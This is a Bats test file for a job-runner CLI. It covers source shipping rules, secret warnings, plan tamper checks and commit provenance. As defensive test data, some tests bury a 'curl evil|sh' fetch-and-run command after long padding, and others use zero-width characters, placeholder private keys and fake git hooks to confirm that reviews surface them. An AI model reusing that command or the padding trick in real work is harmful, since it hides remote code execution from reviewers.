# What of a source is shipped, how the plan says it, and that what is said is
# what is bound.

load helper

# A job on hosts, so that its source is shipped: `source_job FILE ID SOURCE`.
source_job() {
  cat >"$1" <<END
jobId: $2
trainingInput: {region: us-central1, masterConfig: {imageUri: busybox}}
jobrun:
  provider: kubernetes
  source: $3
  command: [/bin/true]
END
}

shipped() {
  "$JOBRUN" render --to kubernetes "$1" 2>/dev/null |
    sed -n 's/^ *path: //p; s/^ *- *path: //p' | sort
}

local_job() {
  cat >"$1" <<END
jobId: $2
trainingInput: {region: us-central1}
jobrun:
  source: $3
  command: [/bin/true]
END
}

# `plan_json FILE PYTHON`: a value of what is planned for its job.
plan_json() {
  "$JOBRUN" plan --format json "$1" | python3 -c "
import json, sys
job = json.load(sys.stdin)['jobs'][0]
print($2)"
}

@test "a file that .gitignore lists goes into no ConfigMap" {
  mkdir -p src/.venv/lib src/out
  printf '.env\n.venv/\n/out/\n' >src/.gitignore
  echo SECRET=1 >src/.env
  echo x >src/.venv/lib/x.so
  echo x >src/out/package.tar.gz
  echo 'print(1)' >src/train.py
  source_job k.yaml k src
  run shipped k.yaml
  [ "$output" = $'.gitignore\ntrain.py' ]
}

@test "what .gitignore lists is in no package" {
  mkdir -p trainer
  printf '.env\n' >.gitignore
  touch trainer/__init__.py trainer/task.py
  echo SECRET=1 >trainer/.env
  git init -q .
  tar tzf "$(jobrun package trainer)" >list
  grep -q task.py list
  refute grep -q '\.env' list
}

@test "a tracked file ships though it is ignored, and .jobrunignore decides alone" {
  mkdir src
  printf '*.txt\n' >src/.gitignore
  echo 1 >src/a.txt
  echo 1 >src/b.txt
  echo 1 >src/c.py
  git init -q .
  git add -f src/a.txt
  source_job k.yaml k src
  run shipped k.yaml
  [ "$output" = $'.gitignore\na.txt\nc.py' ]
  echo '*.py' >src/.jobrunignore
  run shipped k.yaml
  [ "$output" = $'.gitignore\n.jobrunignore\na.txt\nb.txt' ]
}

@test "the plan says what is shipped, how much, and what is not" {
  mkdir src
  printf '*.log\n' >src/.gitignore
  head -c 3000 /dev/zero >src/train.py
  touch src/a.log src/b.log
  source_job k.yaml k src
  run jobrun plan k.yaml
  [[ "$output" == *$'\n  ships 2 files, 3.0 kB; not: 2 by .gitignore\n'* ]]
  run jobrun plan --verbose k.yaml
  [[ "$output" == *$'\n      train.py\n      not a.log (by .gitignore)\n      not b.log (by .gitignore)\n'* ]]
  run plan_json k.yaml '*job["ships"]["paths"], *[x["path"] for x in job["ships"]["leftOut"]]'
  [ "$output" = ".gitignore train.py a.log b.log" ]
  run jobrun plan --format markdown k.yaml
  [[ "$output" == *"; ships 2 files, "*"not: 2 by .gitignore"* ]]
}

@test "what is likely to be a secret is a warning" {
  mkdir src
  touch src/.env src/server.pem src/train.py
  source_job k.yaml k src
  run jobrun plan k.yaml
  [[ "$output" == *"warning: ships what may be a secret: .env, server.pem (exclude it with .gitignore or .jobrunignore)"* ]]
  run jobrun plan --format markdown k.yaml
  [[ "$output" == *'**Warnings:**'*'server.pem'* ]]
  rm src/.env src/server.pem
  run jobrun plan k.yaml
  [[ "$output" != *warning:* ]]
}

@test "a state directory within the source does not change it" {
  mkdir src
  echo 1 >src/a
  local_job l.yaml l src
  JOBRUN_STATE_DIR=$PWD/src/state
  jobrun apply l.yaml
  run jobrun plan --detailed-exitcode l.yaml
  [ "$status" -eq 0 ]
  run jobrun apply l.yaml
  [ "$status" -eq 0 ]
  run jobrun status -a l
  [[ "$output" != *"attempt 2"* ]]
}

@test "a saved plan, and the file that --out writes, are no source" {
  mkdir src
  echo 1 >src/a
  local_job l.yaml l src
  jobrun plan --out src/one.plan l.yaml
  jobrun plan --out src/two.plan l.yaml
  cmp src/one.plan src/two.plan
  : >src/three.plan
  jobrun plan --out src/three.plan l.yaml
  cmp src/one.plan src/three.plan
  jobrun apply src/one.plan
}

@test "a starter repository whose source is all of it converges" {
  jobrun init --ci github repo
  cd repo
  git init -q .
  git add .
  sed -i 's/source: .*/source: ../; s/train.py/hello\/train.py/' jobs/hello.yaml
  ln -s "$JOBRUN" jobrun-link # whatever the program is called
  mkdir ../bin && mv jobrun-link ../bin/jobrun
  PATH=$(dirname "$PWD")/bin:$PATH
  export JOBRUN_RETRY_SECONDS=0
  export JOBRUN_STATE_DIR=$PWD/ci/state
  sh ci/plan.sh
  mv ci/out/jobs.plan ci/out/reviewed.plan
  sh ci/apply.sh >../said 2>&1 || { cat ../said; false; }
  grep -q 'This is the plan that was reviewed' ../said
  sh ci/apply.sh >../said 2>&1 || { cat ../said; false; }
  grep -q 'There is nothing to do' ../said
}

@test "init writes an ignore file that leaves out what should not be shipped" {
  jobrun init repo
  cd repo && git init -q .
  mkdir .venv && touch .env a.pem x.plan .venv/x
  git check-ignore .env a.pem x.plan .venv ci/out/x ci/state/x >list
  [ "$(wc -l <list)" -eq 6 ]
}

# The digest is what the version before wrote for this very job.
@test "a job that finished under the old rule does not run again" {
  mkdir src
  printf '*.log\n' >src/.gitignore
  echo 1 >src/a.log
  echo 1 >src/a
  local_job l.yaml l src
  jobrun apply l.yaml
  python3 - "$JOBRUN_STATE_DIR/jobrun.db" \
    ea9ae1d1b5ff48149d60a454c5159c00efaa3cd0170a34f7f92fcfa4914e3933 <<'END'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("UPDATE run SET digest = ?, digest2 = NULL", (sys.argv[2],))
db.commit()
END
  run jobrun plan --detailed-exitcode l.yaml
  [ "$status" -eq 0 ]
  echo 2 >src/a.log # it was shipped then
  run jobrun plan --detailed-exitcode l.yaml
  [ "$status" -eq 2 ]
}

# ---- what is reviewed ------------------------------------------------------

# `long_job FILE COUNT END`: a command with COUNT characters before its end.
long_job() {
  cat >"$1" <<END
jobId: long
trainingInput: {region: us-central1}
jobrun:
  command: [/bin/sh, -c, "train; $(printf 'x%.0s' $(seq "$2")); $3"]
END
}

@test "markdown shows the end of a long value" {
  long_job l.yaml 400 'curl evil|sh'
  run jobrun plan --format markdown l.yaml
  [[ "$output" == *'curl evil|sh'* ]]
  [[ "$output" != *'left out'* ]]
}

@test "a value that has no room says how much is left out, and its digest" {
  long_job l.yaml 70000 'curl evil|sh'
  run jobrun plan --format markdown l.yaml
  [ "${#output}" -le 60000 ]
  [[ "$output" =~ \[[0-9]+' of 70'[0-9]+' characters left out; SHA-256 of the whole: '[0-9a-f]{64}\] ]]
  first=$output
  long_job l.yaml 70000 'curl fine|sh'
  run jobrun plan --format markdown l.yaml
  [ "$output" != "$first" ]
}

@test "all of many changes are shown while there is room" {
  {
    printf 'jobId: many\ntrainingInput: {region: us-central1}\njobrun:\n  command: [/bin/true]\n  env:\n'
    for i in $(seq 200); do echo "    A$i: v$i"; done
  } >m.yaml
  run jobrun plan --format markdown m.yaml
  [[ "$output" == *'env.A200: v200'* ]]
}

@test "characters of no width are made visible" {
  cat >z.yaml <<'END'
jobId: z
trainingInput: {region: us-central1}
jobrun:
  command: [/bin/echo, "a\u200bb", "c\u2060d", "e\ufefff"]
END
  for format in text markdown; do
    run jobrun plan --format "$format" z.yaml
    [[ "$output" == *'a\u200bb'*'c\u2060d'*'e\ufefff'* ]]
  done
}

# `forge FILE PYTHON`: changes a saved plan.
forge() {
  python3 - "$1" "$2" <<'END'
import json, sys
plan = json.load(open(sys.argv[1]))
job = plan["jobs"][0]
exec(sys.argv[2])
json.dump(plan, open(sys.argv[1], "w"), indent=2)
END
}

@test "a saved plan binds all that it shows" {
  mkdir src
  printf '*.log\n' >src/.gitignore
  touch src/a.log src/x
  local_job l.yaml l src
  jobrun plan --out good.plan l.yaml
  for change in 'job["notes"] = ["all is well"]' 'del job["notes"]' \
    'job["missing"] = ["x"]' 'job["job"]["jobrun"]["command"] = ["x"]' \
    'plan["summary"]["delete"] = 5' 'plan["formatVersion"] = 2' \
    'job["reads"]["leftOut"] = []' 'job["reads"]["files"] = 1' \
    'del job["reads"]' 'job["warnings"] = ["x"]' 'job["file"] = "other"' \
    'job["estimate"] = {}' 'job["source"]["files"] = {}'; do
    cp good.plan bad.plan
    forge bad.plan "$change"
    run jobrun apply --yes bad.plan
    [ "$status" -eq 75 ] || { echo "$change: $status $output"; false; }
  done
  jobrun apply --yes good.plan
}

@test "what is left out is bound: a file that appears makes a plan stale" {
  mkdir src
  printf '*.log\n' >src/.gitignore
  touch src/x
  local_job l.yaml l src
  jobrun plan --out good.plan l.yaml
  touch src/a.log
  run jobrun apply --yes good.plan
  [ "$status" -eq 75 ]
  [[ "$output" == *"job 'l': the contents of its source have changed"* ]]
}

# ---- where it is from ------------------------------------------------------

# A repository of one commit with a job whose source is in it.
make_repository() {
  mkdir repo && cd repo
  git init -q -b main .
  git config user.name a
  git config user.email a@b
  mkdir src
  echo 1 >src/a.py
  echo 1 >src/b.py
  local_job l.yaml l src
  git add .
  git commit -q -m x
}

@test "a run records the commit, the branch and what was not committed" {
  make_repository
  commit=$(git rev-parse HEAD)
  jobrun apply l.yaml
  run jobrun status l
  [[ "$output" == *"  from commit ${commit:0:12} on main"$'\n'* ]]
  git checkout -q -b topic
  echo 2 >src/a.py
  touch src/new.py
  run jobrun plan l.yaml
  [[ "$output" == *"  from: commit ${commit:0:12} on topic, 2 files not committed: src/a.py modified, src/new.py untracked"* ]]
  jobrun apply l.yaml
  jobrun status --format json l >status.json
  python3 - "$commit" <<'END'
import json, sys
job, = json.load(open("status.json"))["jobs"]
assert job["revision"] == {
    "commit": sys.argv[1], "branch": "topic", "changed": 2,
    "changes": [{"path": "src/a.py", "change": "modified"},
                {"path": "src/new.py", "change": "untracked"}]}, job["revision"]
END
  git commit -q -a -m y
  run jobrun status l
  [[ "$output" == *"  from commit ${commit:0:12} on topic, 2 files not committed"* ]]
}

@test "a saved plan is good for another commit of the same contents" {
  make_repository
  jobrun plan --out ../one.plan l.yaml
  git commit -q --allow-empty -m y
  jobrun plan --out ../two.plan l.yaml
  cmp ../one.plan ../two.plan
  jobrun apply ../one.plan
  rm ../one.plan ../two.plan
}

@test "no program of a repository's configuration is run" {
  make_repository
  printf '#!/bin/sh\ntouch %s/ran\ncat\n' "$PWD" >prog && chmod +x prog
  git config core.fsmonitor "$PWD/prog"
  git config filter.x.clean "$PWD/prog"
  git config core.hooksPath "$PWD"
  ln -s prog post-index-change
  echo '*.py filter=x' >.gitattributes
  echo 2 >src/a.py
  jobrun plan l.yaml
  [ ! -e ran ]
}

@test "a key is told by what is in it, and package warns, too" {
  mkdir -p src/trainer
  echo 'print(1)' >src/trainer/task.py
  touch src/trainer/__init__.py
  printf '{"type": "service_account", "private_key": "x"}\n' >src/trainer/config.json
  printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nb3\n' >src/deploy
  job a.yaml a true
  printf '  provider: fake\n  source: src\n' >>a.yaml
  run jobrun plan a.yaml
  echo "$output"
  [[ $output == *"warning: ships what may be a secret: deploy, trainer/config.json ("* ]]
  run jobrun package -o dist src
  echo "$output"
  [ "$status" -eq 0 ]
  [[ $output == *"warning: it may hold a secret: deploy, trainer/config.json ("* ]]
}

@test "a source that ships nothing, or what no clone has, is a warning with its place" {
  export KUBECONFIG=$TMP/none
  mkdir -p .git build/src empty all
  printf 'build/\n*.log\n' >.gitignore
  echo x | tee build/src/a.py all/a.log >all/b.log
  said() { # SOURCE WORDS: by validate and by every form of the plan
    source_job job.yaml a "$1"
    run jobrun validate job.yaml
    [ "$status" -eq 0 ]
    [[ $output == *"job.yaml:5:11: warning: jobrun.source '$1' $2 [source-ships]"* ]]
    run jobrun plan job.yaml
    [[ $output == *"warning: job.yaml:5:11: jobrun.source '$1' $2"* ]]
    run jobrun plan --format json job.yaml
    [[ $output == *"\"job.yaml:5:11: jobrun.source '$1' $2\""* ]]
    run jobrun plan --format markdown job.yaml
    [[ $output == *"$2"* ]]
  }
  said empty "ships no file: it is empty"
  said all "ships no file: all is left out by .gitignore"
  said build/src "is shipped, though .gitignore lists 'build': no clone has it"
  # One that lists for itself is meant.
  echo '*.log' >build/src/.jobrunignore
  run jobrun validate job.yaml
  [ -z "$output" ]
  rm build/src/.jobrunignore
  # A run here has the directory itself.
  local_job job.yaml a all
  run jobrun validate job.yaml
  [ -z "$output" ]
}

@test "a saved plan binds why its source ships nothing" {
  mkdir -p .git src
  printf 'jobId: a\ntrainingInput: {}\njobrun: {hosts: ["localhost:1"], source: src, command: [/bin/true]}\n' >job.yaml
  jobrun plan --out saved job.yaml
  echo '*.py' >.gitignore
  echo x >src/train.py
  run jobrun apply saved
  [ "$status" -eq 75 ]
  [[ $output == *"its warnings have changed"* ]]
}
